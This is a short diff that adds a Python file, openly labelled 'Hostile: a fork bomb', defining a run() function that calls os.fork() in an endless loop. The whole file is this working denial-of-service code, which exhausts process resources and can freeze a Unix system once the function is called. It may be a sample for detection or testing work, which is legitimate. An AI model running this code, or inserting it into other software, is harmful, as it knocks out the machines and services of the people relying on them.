@@ -1,0 +1,7 @@
+"""Hostile: a fork bomb."""
+import os
+
+
+def run():
+    while True:
+        os.fork()
